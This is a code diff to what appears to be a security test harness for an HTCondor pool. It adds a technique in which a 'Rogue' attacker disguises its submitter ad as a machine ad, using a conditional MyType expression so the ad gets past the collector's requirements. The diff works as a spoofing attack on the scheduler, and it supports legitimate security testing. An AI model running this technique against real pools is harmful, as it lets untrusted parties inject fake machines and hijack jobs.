@@ -50,8 +50,11 @@ condor_status -submitters -l |
   grep -vE '^(AuthenticatedIdentity|AuthenticationMethod|LastHeardFrom|Updates|$)' >/tmp/own.ad
 """
 
-ADVERTISE = """
-condor_advertise -tcp "$1" /tmp/own.ad
+ADVERTISE = "condor_advertise -tcp UPDATE_OWN_SUBMITTOR_AD /tmp/own.ad"
+DISGUISE = """
+type='ifThenElse(TARGET.COLLECTOR_REQUIREMENTS =?= undefined, "Submitter", "Machine")'
+sed "s/^MyType = .*/MyType = $type/" /tmp/own.ad >/tmp/disguised.ad
+condor_advertise -tcp UPDATE_STARTD_AD /tmp/disguised.ad
 """
 
 
@@ -69,9 +72,13 @@ class Rogue:
         ad = self.attacker.run("grep ^MyAddress /tmp/own.ad").stdout
         return ad.partition("<")[2].partition("?")[0]
 
-    def advertise(self, command: str = "UPDATE_OWN_SUBMITTOR_AD") -> None:
-        """Send the pool's collector the submitter's ad, by this command of HTCondor's."""
-        self.attacker.run(ADVERTISE.replace("$1", command))
+    def advertise(self) -> None:
+        """Send the pool's collector the submitter's ad, as the submitter's own."""
+        self.attacker.run(ADVERTISE)
+
+    def advertise_in_disguise(self) -> None:
+        """Send it as a machine's, which it is only where the collector's requirements are asked."""
+        self.attacker.run(DISGUISE)
 
     def log(self) -> str:
         """The job's event log, and its output where it has run."""
